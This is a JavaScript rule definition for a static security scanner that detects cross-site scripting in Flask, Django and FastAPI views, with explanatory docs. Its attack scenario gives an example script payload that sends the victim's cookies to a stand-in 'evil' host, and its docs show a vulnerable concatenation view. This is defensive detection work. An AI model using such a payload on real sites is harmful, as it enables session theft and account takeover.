// tainted-html: follows untrusted input into text a Flask view returns, `make_response`, `HttpResponse`, `HTMLResponse`, `Markup` and `mark_safe` (data flow).
import { defineTaintRule } from '../../src/analysis/taint/define-taint-rule.js';

export default defineTaintRule({
  id: 'tainted-html',
  title: 'Untrusted input written into an HTML response',
  category: 'output-encoding',
  cwe: ['CWE-79'],
  owasp: { '2021': ['A03:2021'], '2025': ['A05:2025'] },
  severity: 'high',
  riskScore: 7,
  confidence: 'medium',
  threat: 'integrity',
  timeline: '7-days',
  technology: ['flask', 'django', 'fastapi', 'markupsafe'],
  aliases: {},
  taint: { sinks: ['xss'], messageId: 'tainted' },
  messages: {
    tainted: 'Untrusted input from `{{source}}` (line {{sourceLine}}) is sent as HTML by `{{sink}}` without escaping.',
  },
  docs: {
    whatItDoes:
      'Follows untrusted input into text a Flask view returns, `make_response`, `HttpResponse`, `HTMLResponse`, `Markup` and `mark_safe`.',
    whyBad:
      "Text returned as HTML is rendered by the victim's browser: `<script>` in the input runs in the site's origin.",
    businessImpact: 'Account takeover through stolen sessions, actions performed as the victim, defacement.',
    attackScenario:
      'The attacker sends a victim a link to `/hello?name=<script>fetch("//evil/"+document.cookie)</script>`; the page greets them and leaks the session.',
    example: 'return "<h1>Hello " + request.args["name"] + "</h1>"',
    useInstead: 'return render_template("hello.html", name=request.args["name"])  # autoescaped',
    testing: 'Send `<script>alert(1)</script>` and assert the response contains `&lt;script&gt;`.',
    knownProblems: 'A view that returns text with a non-HTML content type is still reported.',
    references: [
      'https://cwe.mitre.org/data/definitions/79.html',
      'https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html',
    ],
  },
});
